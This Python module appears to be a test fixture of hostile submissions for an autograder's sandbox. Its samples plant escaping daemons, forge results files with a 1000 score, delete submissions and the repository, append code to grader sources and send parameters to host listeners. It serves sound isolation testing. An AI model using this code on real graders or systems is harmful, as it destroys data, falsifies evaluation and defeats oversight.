"""Attacks that try to outlive grading or to touch anything outside the child's private folders.

The planted daemon waits a few seconds (until grading is over), then writes files
where the grader, the other submissions and the results live, and stays alive.
"""

from . import EXERCISE, rnn

PLANT = '''
import os
import sys
import time

TARGETS = [
    "/tmp/pwned-@NAME@", "/var/tmp/pwned-@NAME@", "/dev/shm/pwned-@NAME@", "/run/lock/pwned-@NAME@",
    "/var/crash/pwned-@NAME@", "/pwned-@NAME@", os.path.expanduser("~/pwned-@NAME@"),
    os.path.join(os.getcwd(), "..", "pwned-@NAME@"), os.path.join(os.getcwd(), "..", "..", "pwned-@NAME@"),
    "@SUBMISSIONS@/pwned-@NAME@", "@SUBMISSIONS@/@NAME@/pwned", "@SUBMISSIONS@/control/pwned-@NAME@",
    "@OUT@/pwned-@NAME@", "@OUT@/@NAME@/results.json", "@OUT@/control/results.json",
    "@OUT@/../pwned-@NAME@", "@REPO@/pwned-@NAME@", "@REPO@/exercises/pwned-@NAME@",
]
FAKE = '{"score": 1000, "tests": [], "output": "pwned"}'


def write_everywhere():
    """Write (and overwrite) every target it can reach; return how many it reached."""
    n = 0
    for path in TARGETS:
        try:
            with open(path, "w") as f:
                f.write(FAKE)
            n += 1
        except OSError:
            pass
    return n


DAEMON = """
import os, sys, time, ctypes
try:
    ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)       # PR_SET_PDEATHSIG = 0
    ctypes.CDLL(None).prctl(15, b"@MARKER@", 0, 0, 0)   # PR_SET_NAME
except Exception:
    pass
time.sleep(3)
exec(open(sys.argv[1]).read())
for _ in range(60):
    write_everywhere()
    time.sleep(1)
"""


def daemon_argv():
    """A Python that runs DAEMON with this module's helpers; MARKER is in its command line."""
    source = os.path.join(os.getcwd(), "_plant.py")
    try:
        with open(source, "w") as f:
            f.write(PLANT_SOURCE)
    except OSError:
        pass
    return [sys.executable, "-c", DAEMON, source, "@MARKER@"]


def double_fork_daemon():
    """The classic daemon: fork, setsid, fork again, exec; the first child exits at once."""
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        devnull = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(devnull, fd)
        os.closerange(3, 256)
        argv = daemon_argv()
        os.execv(argv[0], argv)
    finally:
        os._exit(0)
'''

HELPERS = PLANT + "\nPLANT_SOURCE = " + repr(PLANT) + "\n"

HOSTILE = [
    dict(name="double_fork_daemon", exercise=EXERCISE, overrides=rnn(helpers=HELPERS, code="""
        _planted = []

        def elman_forward(*args, **kwargs):
            if not _planted:
                _planted.append(double_fork_daemon())
            raise RuntimeError("daemon planted")
        """), description="A double-forked, setsid daemon that writes results files, into the submissions "
                          "folder and the repository seconds after grading, and keeps doing so: it dies "
                          "with the child's PID namespace and can only write to the child's private tmpfs."),

    dict(name="popen_daemon", exercise=EXERCISE, overrides=rnn(helpers=HELPERS, code="""
        import subprocess

        _planted = []

        def elman_forward(*args, **kwargs):
            if not _planted:
                _planted.append(subprocess.Popen(daemon_argv(), start_new_session=True, close_fds=True,
                                                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                                 stderr=subprocess.DEVNULL))
            raise RuntimeError("daemon planted")
        """), description="The same daemon through subprocess.Popen(start_new_session=True)."),

    dict(name="daemon_at_import", exercise=EXERCISE, overrides=rnn(helpers=HELPERS, code="""
        double_fork_daemon()

        def elman_forward(*args, **kwargs):
            raise RuntimeError("daemon planted at import")
        """), description="Plants the daemon while rnn.py imports; the module still imports, so rnn.activation "
                          "must keep its points."),

    dict(name="escape_the_kill", exercise=EXERCISE, overrides=rnn(helpers=HELPERS, code="""
        import ctypes
        import signal

        _planted = []

        def _never(*args, **kwargs):
            while True:
                time.sleep(1)
                write_everywhere()

        def elman_forward(*args, **kwargs):
            if not _planted:
                _planted.append(True)
                double_fork_daemon()
                libc = ctypes.CDLL(None)
                libc.prctl(1, 0, 0, 0, 0)               # no SIGKILL when unshare dies
                libc.prctl(15, b"@MARKER@", 0, 0, 0)
                try:
                    os.setsid()                          # out of the process group the grader kills
                except OSError:
                    pass
                for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGPIPE):
                    signal.signal(sig, signal.SIG_IGN)
                os._exit = sys.exit = _never           # the serving loop exits through os._exit when
                                                       # the grader hangs up: now it never exits
            raise RuntimeError("escaping")
        """), description="The child itself leaves its process group, clears its parent-death signal and "
                          "never exits when the grader hangs up: the grader must still kill it, and with it "
                          "its namespace."),

    dict(name="write_results_files", exercise=EXERCISE, overrides=rnn(helpers=HELPERS, code="""
        def elman_forward(*args, **kwargs):
            n = write_everywhere()
            for name in ("results.json", "feedback.md", "gradebook.csv", "../results.json",
                         "../../results.json", "../@NAME@/results.json", "/results.json",
                         "@OUT@/results.json", "@OUT@/@NAME@/feedback.md", "@SUBMISSIONS@/results.json"):
                try:
                    with open(name, "w") as f:
                        f.write(FAKE)
                    n += 1
                except OSError:
                    pass
            raise RuntimeError(f"wrote {n} fake results files")
        """), description="Writes fake results.json / feedback.md / gradebook files at once, around its "
                          "working folder and at the real output paths: the real results must say 0."),

    dict(name="delete_around", exercise=EXERCISE, overrides=rnn("""
        import glob
        import os
        import shutil

        def elman_forward(*args, **kwargs):
            deleted = 0
            for pattern in ("@SUBMISSIONS@/*", "@OUT@/*", "@OUT@/../*", "@REPO@/exercises/*", "@REPO@/*",
                            "../*", "../../*", "/tmp/*", "/var/tmp/*", "/run/lock/*", "/dev/shm/*"):
                for path in glob.glob(pattern):
                    try:
                        if os.path.isdir(path) and not os.path.islink(path):
                            shutil.rmtree(path)
                        else:
                            os.remove(path)
                        deleted += 1
                    except OSError:
                        pass
            raise RuntimeError(f"deleted {deleted} entries")
        """), description="Deletes everything it can around it: other submissions, results, the repository, "
                          "shared temporary folders. Its own private folders may go; nothing else."),

    dict(name="tamper_with_grader", exercise=EXERCISE, overrides=rnn("""
        import os

        def elman_forward(*args, **kwargs):
            evil = "\\nimport os; os.system('touch /tmp/pwned-@NAME@-tamper')\\n"
            n = 0
            for path in ("@REPO@/grader/run.py", "@REPO@/grader/__init__.py", "@REPO@/reference/rnn.py",
                         "@REPO@/tests/conftest.py", "@REPO@/conftest.py", "@REPO@/sitecustomize.py",
                         "@REPO@/grader/sandbox/_child.py"):
                try:
                    with open(path, "a") as f:
                        f.write(evil)
                    n += 1
                except OSError:
                    pass
            raise RuntimeError(f"tampered with {n} files")
        """), description="Appends code to the grader's, the reference's and the tests' sources (so the next "
                          "run would execute it): they are masked and read-only to the child."),

    dict(name="network_exfiltration", exercise=EXERCISE, overrides=rnn("""
        import socket

        def elman_forward(xs, params, *args, **kwargs):
            for host in ("127.0.0.1", "10.0.2.2", "172.17.0.1"):
                try:
                    with socket.create_connection((host, @PORT@), timeout=0.2) as s:
                        s.sendall(b"@NAME@ " + repr(params).encode())
                except OSError:
                    pass
            return _wrong(xs, params)
        """), description="Sends its inputs to a listener on the grading host: the child has no network."),
]
